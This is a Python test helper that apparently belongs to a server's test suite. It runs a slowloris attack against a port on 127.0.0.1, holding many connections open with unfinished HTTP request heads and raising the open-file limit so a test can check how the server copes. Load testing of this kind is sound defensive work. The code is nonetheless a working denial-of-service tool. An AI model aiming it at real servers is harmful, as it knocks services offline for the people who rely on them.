"""A slowloris from one address, as its own process: ``python -m tests.slow_clients PORT N RATE``.

Keeps trying to hold N connections to 127.0.0.1:PORT, each dribbling an unfinished request
head, opening new ones (the first N, then one for each the server closes) at up to RATE a
second, until killed (slowhttptest's default rate is 50). Prints ``held K`` twice a second
(connections open and not yet closed by the server), so a test can wait until the attack is on.
"""

from __future__ import annotations

import asyncio
import resource
import sys


async def _hold(port: int, writers: set) -> None:
    try:
        reader, writer = await asyncio.open_connection("127.0.0.1", port)
    except OSError:
        return
    writers.add(writer)
    try:
        writer.write(b"GET /healthz HTTP/1.1\r\n")
        while True:
            writer.write(b"X-a: b\r\n")  # never the blank line that ends the head
            try:
                if not await asyncio.wait_for(reader.read(1024), 1.0):
                    break  # closed by the server
            except asyncio.TimeoutError:
                continue
    except OSError:
        pass
    finally:
        writers.discard(writer)
        writer.close()


async def main(port: int, connections: int, rate: int) -> None:
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (min(hard, connections + 256), hard))
    writers: set = set()
    tasks: set = set()
    tick = 0
    while True:
        for _ in range(min(connections - len(tasks), rate // 10)):
            task = asyncio.create_task(_hold(port, writers))
            tasks.add(task)
            task.add_done_callback(tasks.discard)
        tick += 1
        if tick % 5 == 0:
            print(f"held {len(writers)}", flush=True)
        await asyncio.sleep(0.1)


if __name__ == "__main__":
    asyncio.run(main(int(sys.argv[1]), int(sys.argv[2]), int(sys.argv[3])))
